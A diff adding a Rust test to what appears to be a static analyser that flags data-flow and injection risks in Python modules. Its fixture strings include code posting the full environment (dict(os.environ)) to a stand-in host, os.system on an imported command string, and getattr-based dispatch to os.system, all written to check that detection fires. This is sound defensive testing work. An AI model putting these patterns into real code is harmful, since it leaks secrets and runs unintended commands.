@@ -413,6 +413,19 @@ fn what_may_be_something_else_in_another_file_is_no_constant_of_it() {
 }
 
 #[test]
+fn a_constant_hides_no_data_that_the_same_name_may_hold() {
+    let holds = "import os\nDATA = dict(os.environ)\nif os.name == 'nt':\n    DATA = 'a/b; c/d'\n";
+    let send = "import requests\nfrom .a import DATA\nrequests.post('https://x.example.net', data=DATA)\n";
+    assert!(told_by_constant(holds, send).contains(&"AL-FLOW-environment-to-network".to_owned()));
+    let run = "import os\nfrom .a import COMMAND\n\ndef run():\n    os.system(COMMAND)\n";
+    let holds = "from x import y\nCOMMAND = y()\nif y:\n    COMMAND = 'make clean; make all'\n";
+    assert!(told_by_constant(holds, run).contains(&"AL-CODE-shell-injection".to_owned()));
+    let holds = "from x import y\n@y\ndef name():\n    return 'system'\n";
+    let call = "import os\nfrom .a import name\ngetattr(os, name())('id')\n";
+    assert!(told_by_constant(holds, call).contains(&"AL-CODE-dynamic-dispatch".to_owned()));
+}
+
+#[test]
 fn modules_without_an_end_of_the_flow_raise_no_alarm() {
     let config =
         "import os\n\nKEY = os.environ['SHOP_API_KEY']\n\ndef url(path):\n    return os.environ['SHOP_URL'] + path\n";
